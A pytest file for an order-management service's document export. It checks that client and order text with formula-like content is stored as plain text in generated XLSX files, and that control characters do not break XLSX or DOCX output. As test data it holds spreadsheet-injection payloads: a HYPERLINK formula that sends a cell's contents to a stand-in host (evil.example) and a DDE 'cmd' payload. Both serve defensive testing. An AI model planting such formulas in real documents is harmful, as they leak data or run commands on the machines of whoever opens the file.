"""An order's XLSX documents over HTTP keep formula-like client and order text as text."""

from __future__ import annotations

import io

import httpx
import openpyxl
import pytest

from tests.server.documents.builders import document_text
from tests.server.orders.builders import intake, make_client, make_device

NAME = '=HYPERLINK("http://evil.example/?d="&B5,"Подробнее")'
FAULT = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("kind", ["receipt", "handover-act", "work-act"])
async def test_order_xlsx_writes_client_text_as_text(
    admin_client: httpx.AsyncClient, kind: str
) -> None:
    client_id = await make_client(NAME, phone="+79161234567")
    device_id = await make_device(client_id, serial="@SUM(1)")
    order = await intake(admin_client, client_id, device_id=device_id, declared_fault=FAULT)
    response = await admin_client.get(
        f"/api/v1/orders/{order['id']}/documents/{kind}", params={"format": "xlsx"}
    )
    assert response.status_code == 200, response.text
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    assert NAME in by_value and by_value[NAME].quotePrefix
    if kind == "receipt":
        assert by_value[FAULT].data_type == "s" and by_value[FAULT].quotePrefix


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
async def test_pasted_control_characters_do_not_break_office_documents(
    admin_client: httpx.AsyncClient, fmt: str
) -> None:
    client_id = await make_client("Петров\x0b Пётр\x07", phone="+79161234567")
    order = await intake(admin_client, client_id, declared_fault="Не\x1b включается")
    response = await admin_client.get(
        f"/api/v1/orders/{order['id']}/documents/receipt", params={"format": fmt}
    )
    assert response.status_code == 200, response.text
    assert "Петров Пётр" in document_text(response.content, fmt)
